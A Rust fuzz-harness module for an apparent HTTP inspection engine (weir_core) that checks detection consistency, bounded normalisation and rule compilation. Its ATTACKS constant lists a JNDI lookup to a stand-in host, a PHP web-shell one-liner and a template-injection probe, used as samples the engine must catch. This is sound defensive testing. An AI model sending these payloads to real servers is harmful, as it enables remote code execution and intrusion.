//! What each fuzz target does with its input.
//!
//! The targets in `fuzz_targets/`, and `tests/fuzz_seeds.rs`, which replays the seeds on a stable toolchain, only call
//! these functions. Nothing is switched off under fuzzing.

use std::cell::RefCell;
use std::sync::OnceLock;
use weir_core::engine::{InspectionOptions, Scratch, inspect};
use weir_core::model::{Header, Message, SkipReason};
use weir_core::normalize::VIEWS;
use weir_core::parse::{facts, message};
use weir_core::ruleset::{Ruleset, builtin, compile};

fn ruleset() -> &'static Ruleset {
    static RULES: OnceLock<Ruleset> = OnceLock::new();
    RULES.get_or_init(|| compile::compile(&builtin::files()).expect("built-in rules compile"))
}

thread_local! {
    /// Reused by all inspections of this thread, so that its cache of benign values fills.
    static USED: RefCell<Scratch> = RefCell::default();
}

/// Inspects `message` with fresh memory as `explain` does, then with reused memory as a node does. Both must find the
/// same: earlier inspections must not influence later ones.
pub fn inspect_and_compare(message: &Message<'_>) {
    let options = InspectionOptions { explain: true, ..InspectionOptions::default() };
    let inspection = inspect(message, ruleset(), &options, &mut Scratch::default(), &|| false);
    serde_json::to_string(&inspection).expect("an inspection serialises");
    for _ in 0..3 {
        let again =
            USED.with_borrow_mut(|used| inspect(message, ruleset(), &InspectionOptions::default(), used, &|| false));
        assert_eq!(again.findings, inspection.findings);
        assert_eq!((&again.anomalies, &again.not_inspected), (&inspection.anomalies, &inspection.not_inspected));
        assert_eq!((again.values, &again.uploads), (inspection.values, &inspection.uploads));
    }
}

/// A whole raw request: split into lines, its head decoded, inspected.
pub fn request(data: &[u8]) {
    let message = message::request(data);
    let _ = facts::facts(&message);
    inspect_and_compare(&message);
}

/// Headers of which [`body`] and [`padded`] declare one for their input. Types of files are not among them: what a file may hold is
/// another question.
const DECLARED: &[(&str, &str)] = &[
    ("content-type", "application/json"),
    ("content-type", "application/xml"),
    ("content-type", "application/x-www-form-urlencoded"),
    ("content-type", "multipart/form-data; boundary=x"),
    ("content-type", "application/graphql"),
    ("content-type", "application/grpc"),
    ("content-type", "application/msgpack"),
    ("content-type", "application/cbor"),
    ("content-type", "text/plain; charset=utf-16"),
    ("content-type", "text/plain; charset=utf-7"),
    ("content-encoding", "gzip"),
    ("content-encoding", "deflate"),
    ("content-encoding", "br"),
    ("content-encoding", "zstd"),
    ("x-none", ""),
    ("content-type", "application/x-protobuf"),
    ("content-type", "application/grpc-web-text"),
];

/// A request body; the first byte of the input chooses the header that declares its type or coding.
pub fn body(data: &[u8]) {
    let Some((&choice, body)) = data.split_first() else { return };
    inspect_and_compare(&declared(choice, body));
}

/// A request with `body`, and the header of [`DECLARED`] that `choice` stands for.
fn declared(choice: u8, body: &[u8]) -> Message<'_> {
    let (name, value) = DECLARED[choice as usize % DECLARED.len()];
    Message {
        method: b"POST",
        target: b"/",
        protocol: b"HTTP/1.1",
        headers: vec![Header { name: name.as_bytes(), value: value.as_bytes() }],
        body,
        ..Message::default()
    }
}

/// Attacks that no text before or behind them undoes. Markup is not among them, since it is structure in XML; SQL is not among them, since behind a quote it is a string, and commands
/// are not, since a text of several lines may show them (docs/detection.md).
const ATTACKS: &[&str] =
    &["${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>", "{{self.__init__.__globals__.__builtins__}}"];

/// What is not inspected for these reasons is blocked by default.
const BLOCKED_BY_DEFAULT: &[SkipReason] = &[
    SkipReason::WorkLimit,
    SkipReason::ValueLimit,
    SkipReason::DepthLimit,
    SkipReason::CountLimit,
    SkipReason::Recodings,
    SkipReason::Decompression,
];

/// An attack in a body, with the input before and behind it: it is found, or blocked for what was not inspected. The
/// first bytes of the input choose the declared type or coding, the attack, and where in the rest it is put.
pub fn padded(data: &[u8]) {
    let Some((&[choice, attack, at], padding)) = data.split_first_chunk() else { return };
    let attack = ATTACKS[attack as usize % ATTACKS.len()];
    let (before, behind) = padding.split_at(padding.len() * usize::from(at) / 255);
    let body = [before, b"\n", attack.as_bytes(), b"\n", behind].concat();
    let message = declared(choice, &body);
    let options = InspectionOptions::default();
    let found = USED.with_borrow_mut(|used| inspect(&message, ruleset(), &options, used, &|| false));
    let stopped = found.not_inspected.iter().any(|gap| BLOCKED_BY_DEFAULT.contains(&gap.reason));
    assert!(
        stopped || !found.attacks().is_empty(),
        "{attack} passes as {:?}: {}",
        message.headers[0].value.escape_ascii().to_string(),
        body.escape_ascii()
    );
}

/// Every view, applied four times to its own output: the result must stay within eight times the input.
pub fn normalize(data: &[u8]) {
    for view in VIEWS {
        let mut text = data.to_vec();
        for _ in 0..4 {
            text = (view.run)(&text).into_owned();
            assert!(text.len() <= data.len() * 8 + 64, "view {} grows its input beyond bounds", view.name);
        }
    }
}

/// A rule file: compiles or is rejected with errors, and never panics.
pub fn rules(data: &[u8]) {
    let text = String::from_utf8_lossy(data).into_owned();
    if let Err(errors) = compile::compile(&[("fuzz.yaml".to_string(), text)]) {
        assert!(!errors.is_empty());
    }
}
